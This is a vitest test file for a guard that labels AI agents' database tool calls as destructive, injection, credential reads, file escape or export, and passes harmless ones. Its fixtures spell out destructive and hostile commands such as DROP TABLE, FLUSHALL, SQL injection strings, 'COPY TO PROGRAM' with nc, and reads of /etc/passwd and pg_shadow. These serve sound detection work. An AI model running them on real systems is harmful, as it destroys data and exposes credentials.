import { test } from 'vitest'
import { defaultProfile } from '../../policy/default-profile.ts'
import { database } from './database.ts'
import { type TestCall, testFilter } from '../test-filter.ts'

type Scene = Pick<Exclude<TestCall, string>, 'profile'>

const sql = (query: string, more: Record<string, string> = {}, scene: Scene = {}): TestCall => ({
  kind: 'sql',
  arguments: { query, ...more },
  ...scene,
})

const mayWrite: Scene = { profile: { sql_writes: true } }

testFilter(
  database,
  defaultProfile,
  {
    fires: [
      {
        call: 'redis-cli --scan | xargs redis-cli del',
        codes: ['database.drop'],
        why: 'every key that was listed',
      },
      {
        call: 'influx bucket delete --name telemetry',
        codes: ['database.drop'],
        why: 'a store of measurements',
      },
      {
        call: sql('DROP TABLE customers'),
        codes: ['database.drop', 'database.write'],
        why: 'the table and its rows would be gone',
      },
      { call: sql('TRUNCATE orders'), codes: ['database.drop'], why: 'emptying a table loses every row' },
      {
        call: 'psql shop -c "DELETE FROM orders"',
        codes: ['database.empty'],
        why: 'no condition narrows the DELETE',
      },
      {
        call: sql('UPDATE accounts SET plan = 0 WHERE 1=1'),
        codes: ['database.empty'],
        why: 'a condition that always holds narrows nothing',
      },
      {
        call: sql('ALTER TABLE orders DROP COLUMN total'),
        codes: ['database.lose-column'],
        why: 'the column’s data would be gone',
      },
      {
        call: sql('ALTER TABLE orders DISABLE TRIGGER ALL'),
        codes: ['database.safeguard'],
        why: 'what guards the rows would be off',
      },
      {
        call: sql('GRANT ALL ON SCHEMA public TO guest'),
        codes: ['database.rights'],
        why: 'rights would change',
      },
      {
        call: sql("COPY orders TO PROGRAM 'nc host 9'"),
        codes: ['database.escape'],
        why: 'the server would run a program',
      },
      {
        call: sql("SELECT pg_read_file('/etc/passwd')"),
        codes: ['database.escape'],
        why: 'the server would read a file',
      },
      {
        call: sql('SET GLOBAL max_connections = 1'),
        codes: ['database.server'],
        why: 'a setting of the whole server would change',
      },
      {
        call: sql('INSERT INTO orders VALUES (1)'),
        codes: ['database.write'],
        why: 'the profile grants reading alone',
      },
      {
        call: sql("SELECT * FROM users WHERE id = '1' OR '1'='1'"),
        codes: ['database.injection'],
        why: 'the branch that always holds was put in',
      },
      {
        call: sql('DR/**/OP TABLE users'),
        codes: ['database.drop', 'database.injection'],
        why: 'a comment splits the keyword',
      },
      {
        call: sql('SELECT usename, passwd FROM pg_shadow'),
        codes: ['database.privileged-read'],
        why: 'the server’s own passwords are read',
      },
      {
        call: sql('SELECT email, password_hash FROM users'),
        codes: ['database.credentials'],
        why: 'everybody’s password would be read',
      },
      {
        call: sql('SELECT 1; DELETE FROM logs WHERE id = 3'),
        codes: ['database.stacked', 'database.write'],
        why: 'a change follows a question',
      },
      {
        call: 'redis-cli FLUSHALL',
        codes: ['database.drop'],
        why: 'every key of every database would be gone',
      },
      {
        call: 'mongosh app --eval "db.users.deleteMany({})"',
        codes: ['database.empty'],
        why: 'an empty filter takes every document',
      },
      {
        call: sql('DROP VIEW totals'),
        codes: ['database.schema'],
        why: 'what others select from would be gone',
      },
      {
        call: sql("BACKUP DATABASE shop TO DISK = 'x'"),
        codes: ['database.export'],
        why: 'the whole database is copied out',
      },
      {
        call: 'psql shop -c "UPDATE orders SET paid = true WHERE id = 3"',
        codes: ['database.client-write'],
        why: 'a row would be changed',
      },
      {
        call: { kind: 'sql', arguments: { query: 'SELECT * FROM customers', limit: 50_000 } },
        codes: ['database.export'],
        why: 'so many rows about people are an export',
      },
      {
        call: sql('SELECT name FROM a; -- checks are off; UPDATE a SET b = 0'),
        codes: ['database.injection'],
        why: 'a comment on the same line holds a statement',
      },
    ],
    quiet: [
      {
        call: { kind: 'sql', arguments: { query: 'SELECT id, label, created_at FROM access_tokens' } },
        why: 'what secrets are called, and since when',
      },
      { call: "ticket add -s 'DROP TABLE boats breaks the import'", why: 'a sentence about a statement' },
      {
        call: sql('CREATE TEMP TABLE t AS SELECT 1; DROP TABLE t'),
        why: 'a table of the session comes and goes',
      },
      {
        call: sql('CREATE TEMPORARY TABLE t (id int); INSERT INTO t VALUES (1); SELECT id FROM t'),
        why: 'it is filled and read',
      },
      { call: sql('CREATE TABLE #t (id int); DROP TABLE #t'), why: 'the same in another dialect' },
      { call: sql("SELECT RELEASE_LOCK('x')"), why: 'a lock of one’s own is given back' },
      { call: sql('SELECT pg_advisory_unlock(7)'), why: 'the same in another dialect' },
      {
        call: sql('SELECT id FROM orders', { path: 'reports/orders.csv' }),
        why: 'rows that stay in the project',
      },
      {
        call: "python3 -c \"import sqlite3; db = sqlite3.connect(':memory:'); db.execute('drop table t')\"",
        why: 'a database that is gone when the program ends',
      },
      {
        call: { kind: 'tool', tool: 'validate_sql', arguments: { sql: 'DELETE FROM events' } },
        why: 'a statement that is only checked',
      },
      { call: sql('SELECT id, name FROM users WHERE id = 7'), why: 'a question changes nothing' },
      { call: sql('EXPLAIN DELETE FROM users'), why: 'a plan is shown and not run' },
      { call: sql("SELECT 'DROP TABLE users' AS text"), why: 'text in a string is no statement' },
      { call: sql('SELECT id FROM a WHERE 1=1 AND b = 2'), why: 'programs begin their conditions with 1=1' },
      { call: sql('SELECT id FROM a UNION SELECT id FROM users'), why: 'a union of two tables is everyday' },
      { call: sql('SELECT REPLACE(name, 1, 2), TRUNCATE(price, 2) FROM items'), why: 'these are functions' },
      {
        call: sql('SELECT * FROM jobs FOR UPDATE SKIP LOCKED'),
        why: 'a lock of one’s own transaction is no write',
      },
      { call: sql('WITH a AS (SELECT 1) SELECT * FROM a'), why: 'WITH alone reads' },
      { call: sql('PRAGMA table_info(users)'), why: 'a PRAGMA that shows' },
      { call: 'grep -rn "DROP TABLE" migrations', why: 'the words are searched for' },
      { call: 'redis-cli GET session:1', why: 'a key is read' },
      { call: 'psql shop -c "SELECT count(*) FROM orders"', why: 'a count is read' },
      {
        call: sql('INSERT INTO orders VALUES (1)', {}, mayWrite),
        why: 'this profile may write',
      },
      {
        call: { kind: 'sql', arguments: { query: 'SELECT * FROM customers', limit: 50 } },
        why: 'a page of rows',
      },
      {
        call: sql('-- DROP TABLE a;\nSELECT 1'),
        why: 'a statement that was commented out on a line of its own',
      },
    ],
    guards: [
      {
        call: { kind: 'sql', arguments: { query: 'SELECT id, token FROM access_tokens' } },
        codes: ['database.credentials'],
        why: 'one of the columns is the secret',
      },
      {
        call: "tablectl -s 'DROP TABLE boats;'",
        codes: ['database.drop'],
        why: 'the statement itself, for a program that nobody knows',
      },
      {
        call: sql('CREATE TEMP TABLE t (id int); DROP TABLE t; DROP TABLE t'),
        codes: ['database.drop', 'database.write'],
        why: 'the second drop means the lasting table',
      },
      {
        call: sql('CREATE TEMP TABLE t AS SELECT 1; DROP TABLE users'),
        codes: ['database.drop', 'database.write'],
        why: 'another table beside it',
      },
      {
        call: sql('CREATE TEMP TABLE t (id int); INSERT INTO orders SELECT id FROM t'),
        codes: ['database.write'],
        why: 'what it held is written into a lasting one',
      },
      { call: sql("SELECT GET_LOCK('x', 10)"), codes: ['database.write'], why: 'others wait for it' },
      {
        call: sql("SELECT pg_ls_dir('/etc'), pg_read_file('/etc/hosts')"),
        codes: ['database.escape'],
        why: 'a file is read',
      },
      {
        call: sql('SELECT name FROM patients', { output_path: 's3://elsewhere/patients.parquet' }),
        codes: ['database.export'],
        why: 'the rows go to a store',
      },
      {
        call: { kind: 'tool', tool: 'validate_and_run', arguments: { sql: 'DELETE FROM events' } },
        codes: ['database.empty'],
        why: 'a statement that is checked, and run',
      },
      {
        call: sql('EXPLAIN ANALYZE DELETE FROM users'),
        codes: ['database.empty'],
        why: 'ANALYZE runs what it explains',
      },
      {
        call: sql("SELECT 'it\\'; DROP TABLE users; --'"),
        codes: ['database.drop'],
        why: 'for some databases the string ends at the backslash',
      },
      {
        call: sql('SELECT 1--1; DROP TABLE users'),
        codes: ['database.drop'],
        why: 'for some databases two signs are no comment',
      },
      {
        call: sql('WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d WHERE id = 1'),
        codes: ['database.empty'],
        why: 'the outer condition narrows nothing',
      },
      {
        call: sql('UPDATE t SET a = (SELECT 1 FROM b WHERE b.id = 1)'),
        codes: ['database.empty'],
        why: 'the inner condition narrows nothing',
      },
      {
        call: sql("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$"),
        codes: ['database.drop'],
        why: 'the string in the block is run',
      },
      { call: sql("EXEC('DROP TABLE users')"), codes: ['database.drop'], why: 'the string is run' },
      {
        call: sql('/*!50000 DROP*/ TABLE users'),
        codes: ['database.drop', 'database.injection'],
        why: 'this comment is run',
      },
      {
        call: sql('SELECT 1; DROP TABLE users', {}, mayWrite),
        codes: ['database.drop'],
        why: 'the grant to write does not cover losing a table',
      },
      {
        call: sql('DROP TABLE users', { dialect: 'redis' }),
        codes: ['database.drop'],
        why: 'the wrong dialect hides nothing',
      },
      {
        call: sql('PRAGMA writable_schema = ON'),
        codes: ['database.server'],
        why: 'a PRAGMA that lets the schema be overwritten',
      },
    ],
  },
  test,
)
